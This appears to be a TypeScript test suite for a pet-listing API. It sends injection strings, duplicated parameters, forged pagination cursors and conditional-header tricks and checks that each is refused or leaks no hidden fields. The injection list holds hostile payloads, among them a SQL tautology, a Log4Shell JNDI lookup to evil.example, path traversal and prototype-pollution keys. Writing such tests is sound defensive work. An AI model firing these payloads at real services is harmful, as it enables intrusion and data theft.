import { refusals, sent } from './attack.ts';
import type { Attack } from './attack.ts';
import { OWN } from './setup.ts';

const { accessDenied, missingToken } = refusals;

const get = (query: string) => ({ method: 'GET', target: `/api/pets?${query}` });

/** What would widen a query if it ever became part of an expression, a key or another language. */
const injections = [
  '%23sortKey',
  ':partition',
  "' OR '1'='1",
  '{"S":"dog"}',
  '*',
  '%25',
  'dog\u0000',
  'dog\t0000000000000003',
  'sold\t0000000000000003',
  'dog\n',
  '../sold',
  'default/sold',
  '${jndi:ldap://evil.example}',
  '__proto__',
  'constructor',
];

const injected = injections.flatMap((value): Attack[] => {
  const text = encodeURIComponent(value);
  return [
    {
      name: `a visitor chooses the type ${JSON.stringify(value)}`,
      refused: /^(200 nothing|400 type must be visible text.*)$/,
      attempt: async (setup) => {
        const outcome = await setup.api(get(`type=${text}&sort=price-asc`));
        return { ...outcome, summary: outcome.summary + (outcome.body === '[]' ? ' nothing' : '') };
      },
    },
    sent(`a visitor sorts by ${JSON.stringify(value)}`, get(`sort=${text}`), /^400 sort must be/),
    sent(
      `a visitor has those available that are ${JSON.stringify(value)}`,
      get(`available=${text}`),
      /^400 available must be/,
    ),
    sent(
      `a visitor looks on from the position ${JSON.stringify(value)}`,
      get(`sort=price-asc&after=${text}`),
      /^400 after must come from the Link/,
    ),
  ];
});

const twice = [
  'sort=price-asc&sort=newest&after=price-asc.1.1',
  'after=price-asc.0.1&sort=price-asc&after=price-desc.0.1',
  'type=dog&type=',
  'type[]=dog&type=%00',
  'available=true&available=yes',
].map((query) => sent(`a visitor chooses twice by ?${query}`, get(query), /^400 /));

/** Positions of one query in another, and positions that lie outside the list. */
const positions: [string, string | RegExp][] = [
  ['sort=price-desc&after=price-asc.2000.3', /^400 /],
  ['sort=newest&after=price-asc.2000.3', /^400 /],
  ['sort=price-asc&before=3', /^400 /],
  ['sort=price-asc&after=WyI5OTk5IiwxLCJkZWZhdWx0Il0', /^400 /],
  ['sort=price-asc&after=price-asc.0.1&username=other', '200'],
  ['sort=price-asc&after=price-asc.0.1&listPartition=default/sold', '200'],
  ['sort=price-asc&limit=100&after=price-asc.0.1', '200'],
  ['sort=price-desc&limit=100&after=price-desc.100000000.9007199254740991', '200'],
  ['type=goldfish&limit=100&before=9007199254740991', '200'],
];

/** A pet of Ann's that was taken off the list, which nothing public shows any more. */
const unseen = positions.map(([query, refused]): Attack => ({
  name: `a visitor looks on by ?${query}`,
  refused,
  attempt: async (setup) => {
    const outcome = await setup.api(get(query));
    const leaks =
      /"(buyer|soldBy|soldAt|removedAt|listPartition|by[A-Z]\w+|username|idempotencyKey)"/.exec(
        outcome.body,
      );
    return leaks ? { ...outcome, summary: `200 with ${leaks[0]}` } : outcome;
  },
}));

const types = ['POST', 'PUT', 'DELETE', 'PATCH'].map((method) =>
  sent(
    `a keeper calls the types by ${method}`,
    { method, target: '/api/pets/types' },
    missingToken,
    'keeper',
  ),
);

const dragon = '{"type":"dragon","price":1}';
const changing = (id: number, headers: Record<string, string> = {}) => ({
  method: 'PUT',
  target: `/api/pets/${id}`,
  headers: { 'content-type': 'application/json', ...headers },
  body: dragon,
});

/** Ways to take over an item that is there, or to make a sale another. */
const changed = [
  sent('a buyer puts the own pet back', changing(OWN.eve), accessDenied, 'eve'),
  sent('a buyer puts a removed pet back', changing(OWN.removed), accessDenied, 'eve'),
  sent(
    'a buyer adds a pet by a key',
    changing(77, { 'if-none-match': '*', 'idempotency-key': 'eve' }),
    accessDenied,
    'eve',
  ),
  sent('a keeper changes a sold pet', changing(OWN.ann), /^409 /, 'keeper'),
  sent(
    'a keeper changes a sold pet, if it is there',
    changing(OWN.ann, { 'if-match': '*' }),
    /^409 /,
    'keeper',
  ),
  sent(
    'a keeper changes a sold and removed pet, if it is there',
    changing(OWN.removed, { 'if-match': '*' }),
    /^412 /,
    'keeper',
  ),
  sent(
    'a keeper adds a pet in place of a removed one',
    changing(OWN.removed, { 'if-none-match': '*' }),
    /^412 /,
    'keeper',
  ),
  // Pets that came without a key have none that could be guessed.
  ...['undefined', 'null', '0', 'a'.repeat(64)].map((key) =>
    sent(
      `a keeper claims the pet of another by the key ${key}`,
      changing(1, { 'if-none-match': '*', 'idempotency-key': key }),
      /^412 /,
      'keeper',
    ),
  ),
  ...['', '*', 'a b', '"x"', 'x:y', '#id', 'a'.repeat(65), 'a, b'].map((key) =>
    sent(
      `a keeper adds a pet by the key ${JSON.stringify(key)}`,
      changing(77, { 'if-none-match': '*', 'idempotency-key': key }),
      /^400 Idempotency-Key must be/,
      'keeper',
    ),
  ),
  sent(
    'a keeper adds a pet under the last id that there is',
    changing(Number.MAX_SAFE_INTEGER),
    /^412 /,
    'keeper',
  ),
];

export const queryAttacks: readonly Attack[] = [
  ...injected,
  ...twice,
  ...unseen,
  ...types,
  ...changed,
];
